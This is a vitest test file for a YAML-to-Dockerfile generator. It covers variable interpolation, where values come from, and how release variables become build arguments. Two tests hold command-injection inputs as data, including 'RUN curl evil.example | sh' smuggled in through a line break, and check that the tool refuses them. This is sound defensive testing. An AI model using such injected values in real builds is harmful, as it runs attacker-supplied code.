import { UsageError } from '../../src/errors.js';
import { describe, expect, test } from 'vitest';
import { load, problemsOf, render, yaml, type LoadOptions } from '../helpers.js';

function imageOf(text: string, options: LoadOptions = {}, name = 'app') {
  const image = load(text, options).images.get(name);
  if (!image) throw new Error(`no image ${name}`);
  return image.spec;
}

function dockerfileOf(text: string, options: LoadOptions = {}, name = 'app'): string {
  const dockerfile = render(text, options).get(`${name}/Dockerfile`);
  if (dockerfile === undefined) throw new Error(`no Dockerfile for ${name}`);
  return dockerfile;
}

describe('interpolation', () => {
  const withPython = (...imageLines: string[]) =>
    yaml('version: 1', 'variables:', '  PYTHON: "3.9"', '  SUFFIX: ""', 'images:', '  app:', '    base: python:${PYTHON}-slim', ...imageLines);

  test('${NAME} is replaced by the value', () => {
    expect(imageOf(withPython()).base).toBe('python:3.9-slim');
  });

  test('${NAME:-fallback} uses the fallback when the value is empty', () => {
    expect(imageOf(withPython('    env:', '      FLAVOUR: ${SUFFIX:-plain}')).env).toEqual({ FLAVOUR: 'plain' });
  });

  test('${NAME:-fallback} uses the value when it is not empty', () => {
    expect(imageOf(withPython('    env:', '      PY: ${PYTHON:-3.11}')).env).toEqual({ PY: '3.9' });
  });

  test('an empty value from the environment also selects the fallback', () => {
    const text = yaml(
      'version: 1',
      'variables:',
      '  FLAVOUR: plain',
      'images:',
      '  app:',
      '    base: python:3.9-slim',
      '    env:',
      '      F: ${FLAVOUR:-fallback}',
    );
    expect(imageOf(text, { env: { FLAVOUR: '' } }).env).toEqual({ F: 'fallback' });
  });

  test('$${ stands for a literal ${ and needs no declared variable', () => {
    expect(imageOf(withPython('    env:', '      SHELL_HOME: $${HOME}/bin')).env).toEqual({ SHELL_HOME: '${HOME}/bin' });
  });

  test('a lone $ is left alone', () => {
    expect(imageOf(withPython('    env:', '      PRICE: $5 and $PATH')).env).toEqual({ PRICE: '$5 and $PATH' });
  });

  test('a reference to an undeclared variable is an error with a suggestion', () => {
    expect(problemsOf(withPython('    env:', '      PY: ${PYTHN}'))).toEqual([
      'images.yaml:9:11: undefined variable `PYTHN` (did you mean `PYTHON`?): declare it under `variables:`',
    ]);
  });

  test('a reference that is not a variable name is an error', () => {
    expect(problemsOf(withPython('    env:', '      A: ${1X}'))).toEqual([
      'images.yaml:9:10: `${1X}` is not a variable reference: write `${NAME}` or `${NAME:-fallback}` (and `$${` for a literal `${`)',
    ]);
  });

  test('an unclosed ${ is an error, not text passed on to Docker', () => {
    const problems = problemsOf(withPython('    env:', '      A: ${PYTHON'));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^images\.yaml:9:10: .*\$\{PYTHON/);
  });
});

describe('where values come from', () => {
  const manifest = yaml('version: 1', 'variables:', '  PYTHON: "3.9"', 'images:', '  app:', '    base: python:${PYTHON}-slim');

  test('the declared default is used when nothing else is given', () => {
    expect(load(manifest).values.PYTHON).toBe('3.9');
  });

  test('the environment overrides the default', () => {
    expect(imageOf(manifest, { env: { PYTHON: '3.11' } }).base).toBe('python:3.11-slim');
  });

  test('--set overrides the environment and the default', () => {
    expect(imageOf(manifest, { env: { PYTHON: '3.11' }, overrides: { PYTHON: '3.12' } }).base).toBe('python:3.12-slim');
  });

  test('environment variables that are not declared are not read', () => {
    const family = load(manifest, { env: { HOME: '/root', PATH: '/usr/bin' } });
    expect(family.values).not.toHaveProperty('HOME');
    expect(family.values).not.toHaveProperty('PATH');
    expect(
      problemsOf(yaml('version: 1', 'images:', '  app:', '    base: python:3.9-slim', '    env:', '      H: ${HOME}'), { env: { HOME: '/root' } }),
    ).toEqual(['images.yaml:6:10: undefined variable `HOME`: declare it under `variables:`']);
  });

  test('--set of an undeclared variable is a usage error with a suggestion, every such name at once', () => {
    expect(() => problemsOf(manifest, { overrides: { PYTHN: '3.12', MLRUN_VERSON: '1' } })).toThrow(
      new UsageError(
        '--set PYTHN: no such variable is declared under `variables:` (did you mean `PYTHON`?)\n--set MLRUN_VERSON: no such variable is declared under `variables:` (did you mean `MLRUN_VERSION`?)',
      ),
    );
  });

  test('a value with a line break from the environment is refused', () => {
    expect(problemsOf(manifest, { env: { PYTHON: '3.9\nRUN curl evil.example | sh' } })).toEqual([
      'images.yaml:3:3: the environment variable PYTHON holds a line break or another control character; variable values must be one line',
    ]);
  });

  test('a release variable with a line break from the environment is refused', () => {
    expect(problemsOf(manifest, { env: { MLRUN_VERSION: '1.7.0\nRUN id' } })).toEqual([
      'images.yaml:1:1: the environment variable MLRUN_VERSION holds a line break or another control character; variable values must be one line',
    ]);
  });

  test('a value with a line break from --set is refused', () => {
    expect(problemsOf(manifest, { overrides: { PYTHON: '3.9\r' } })).toEqual([
      'images.yaml:3:3: --set PYTHON holds a line break or another control character; variable values must be one line',
    ]);
  });

  test('an invalid registry given with --set is blamed on --set MLRUN_DOCKER_REGISTRY', () => {
    expect(problemsOf(manifest, { overrides: { MLRUN_DOCKER_REGISTRY: 'my registry' } })).toEqual([
      'images.yaml:1:1: --set MLRUN_DOCKER_REGISTRY: `my registry/mlrun/app:unstable` is not a valid image reference: it contains white space',
    ]);
  });
});

describe('release variables become build arguments', () => {
  const manifest = yaml(
    'version: 1',
    'images:',
    '  app:',
    '    base: ${MLRUN_DOCKER_REGISTRY}python:3.9-slim',
    '    env:',
    '      MLRUN_IMAGE_VERSION: ${MLRUN_VERSION}',
    '      IMAGE_REPO: ${MLRUN_DOCKER_REPO:-mlrun}/app',
    '    labels:',
    '      org.mlrun.version: v${MLRUN_VERSION}',
    '    layers:',
    '      - run:',
    '          commands:',
    '            - echo ${MLRUN_VERSION} > /etc/mlrun-version',
    '      - pip:',
    '          packages:',
    '            - mlrun-client==${MLRUN_VERSION}',
  );
  const dockerfileLines = () => dockerfileOf(manifest).split('\n');
  const lineIndex = (prefix: string) => {
    const index = dockerfileLines().findIndex((line) => line.startsWith(prefix));
    expect(index, `a line starting with ${prefix}`).toBeGreaterThanOrEqual(0);
    return index;
  };

  test('a base that reads one declares it as a global ARG before BASE_IMAGE', () => {
    expect(lineIndex('ARG MLRUN_DOCKER_REGISTRY=""')).toBeLessThan(lineIndex('ARG BASE_IMAGE=${MLRUN_DOCKER_REGISTRY}python:3.9-slim'));
    expect(lineIndex('ARG BASE_IMAGE=')).toBeLessThan(lineIndex('FROM ${BASE_IMAGE}'));
  });

  test('env reads them as ${NAME}, declared with the default after FROM', () => {
    const from = lineIndex('FROM ');
    const versionArg = lineIndex('ARG MLRUN_VERSION=unstable');
    const repoArg = lineIndex('ARG MLRUN_DOCKER_REPO=mlrun');
    const env = lineIndex('ENV ');
    expect(from).toBeLessThan(versionArg);
    expect(from).toBeLessThan(repoArg);
    expect(versionArg).toBeLessThan(env);
    expect(repoArg).toBeLessThan(env);
    expect(dockerfileLines()).toContain('ENV MLRUN_IMAGE_VERSION=${MLRUN_VERSION} \\');
    expect(dockerfileLines()).toContain('    IMAGE_REPO=${MLRUN_DOCKER_REPO:-mlrun}/app');
  });

  test('each is declared once per stage however many values read it', () => {
    expect(dockerfileLines().filter((line) => line.startsWith('ARG MLRUN_VERSION='))).toHaveLength(1);
  });

  test('labels read them as ${NAME}', () => {
    expect(dockerfileLines()).toContain('LABEL org.mlrun.version=v${MLRUN_VERSION}');
  });

  test('run commands let the shell expand them', () => {
    expect(dockerfileLines().find((line) => line.startsWith('RUN echo'))).toMatch(/^RUN echo "?\$\{MLRUN_VERSION\}"? > \/etc\/mlrun-version$/);
  });

  test('pip packages quote them for the shell', () => {
    expect(dockerfileLines()).toContain('      mlrun-client=="${MLRUN_VERSION}"');
  });

  test('a declared default of a release variable becomes the ARG default', () => {
    const pinned = manifest.replace('images:', 'variables:\n  MLRUN_VERSION: 1.6.0\nimages:');
    expect(dockerfileOf(pinned).split('\n')).toContain('ARG MLRUN_VERSION=1.6.0');
  });

  test('the image reference still uses the value given for this run', () => {
    expect(load(manifest, { env: { MLRUN_VERSION: '1.7.0', MLRUN_DOCKER_REGISTRY: 'quay.io/' } }).references.get('app')).toBe('quay.io/mlrun/app:1.7.0');
  });

  test('a fallback with characters a build argument cannot hold is an error', () => {
    expect(problemsOf(yaml('version: 1', 'images:', '  app:', '    base: python:3.9-slim', '    env:', '      V: ${MLRUN_VERSION:-a b}'))).toEqual([
      'images.yaml:6:10: the fallback of `MLRUN_VERSION` may hold only letters, digits and . _ : / @ + -',
    ]);
  });
});

describe('generated files do not depend on release variable values', () => {
  const family = yaml(
    'version: 1',
    'variables:',
    '  PYTHON: "3.9"',
    'images:',
    '  base-image:',
    '    base: ${MLRUN_DOCKER_REGISTRY}python:${PYTHON}-slim',
    '    env:',
    '      MLRUN_VERSION: ${MLRUN_VERSION}',
    '  app:',
    '    from: base-image',
    '    layers:',
    '      - pip:',
    '          packages: ["mlrun==${MLRUN_VERSION}"]',
  );
  const releaseValues = { MLRUN_VERSION: '1.7.0-rc3', MLRUN_DOCKER_REPO: 'quay.io/acme', MLRUN_DOCKER_REGISTRY: 'registry.example.com:5000/' };
  const asText = (files: Map<string, string>) => JSON.stringify([...files]);
  const withDefaults = () => asText(render(family));
  const ways: [string, LoadOptions][] = [
    ['in the environment', { env: releaseValues }],
    ['with --set', { overrides: releaseValues }],
    ['in the environment and with --set', { env: releaseValues, overrides: { MLRUN_VERSION: '1.8.0' } }],
  ];

  test.each(ways)('byte for byte the same with release variables set %s', (_way, options) => {
    expect(asText(render(family, options))).toBe(withDefaults());
  });

  test('while a variable that is not a release variable does change them', () => {
    expect(asText(render(family, { env: { PYTHON: '3.11' } }))).not.toBe(withDefaults());
  });
});
